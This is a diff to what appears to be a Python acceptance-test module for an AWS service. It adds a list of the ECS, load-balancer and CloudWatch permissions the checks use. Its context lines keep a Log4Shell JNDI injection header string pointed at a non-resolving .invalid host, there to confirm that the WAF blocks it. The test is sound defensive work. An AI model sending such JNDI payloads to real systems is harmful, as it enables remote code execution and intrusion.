@@ -17,6 +17,19 @@ from verify import Target, desired_count, distinct_replicas, running_tasks
 # Log4Shell in a header: AWSManagedRulesKnownBadInputsRuleSet's Log4JRCE_HEADER blocks it (infra/waf.py enables it).
 KNOWN_BAD_HEADER = ("X-Api-Version", "${jndi:ldap://acceptance.invalid/a}")
 
+# What the checks call through the clients they are given (bootstrap/permissions.py grants them to the deploy role,
+# which acceptance.yml assumes).
+AWS_ACTIONS = [
+    "ecs:ListTasks",
+    "ecs:DescribeTasks",
+    "ecs:DescribeServices",
+    "ecs:StopTask",
+    "elasticloadbalancing:DescribeTargetHealth",
+    "elasticloadbalancing:DescribeRules",
+    "cloudwatch:GetDashboard",
+    "cloudwatch:DescribeAlarms",
+]
+
 
 @dataclass
 class Check:
